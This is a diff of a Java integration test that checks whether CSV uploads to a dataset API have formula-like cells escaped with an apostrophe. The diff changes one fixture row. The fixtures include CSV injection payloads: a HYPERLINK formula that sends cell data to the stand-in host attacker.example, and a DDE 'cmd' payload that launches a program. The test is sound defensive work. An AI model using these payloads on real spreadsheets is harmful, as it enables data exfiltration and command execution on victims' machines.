@@ -57,7 +57,7 @@ class CsvInjectionIT {
         String body = "person-ref,given-name\n"
                 + "P-1,\"=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Open\"\")\"\n"
                 + "-2+3+cmd|' /C calc'!A0,@SUM(A1:A9)\n"
-                + "P-3,\"\tTab\"\n"
+                + "P-3,-5\n"
                 + "P-4,+44 1632 960101\n";
         String police = demo.token(POLICE_PRACTITIONER);
         String uploaded = mvc.perform(post("/api/v1/datasets").header("Authorization", "Bearer " + police)
@@ -75,7 +75,7 @@ class CsvInjectionIT {
                 "person-ref,given-name",
                 "P-1,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Open\"\")\"",
                 "\"'-2+3+cmd|' /C calc'!A0\",\"'@SUM(A1:A9)\"",
-                "P-3,\"'\tTab\"",
+                "P-3,\"'-5\"",
                 "P-4,\"'+44 1632 960101\"");
         assertThat(cells(rows)).noneMatch(CsvWriter::formulaLike);
 
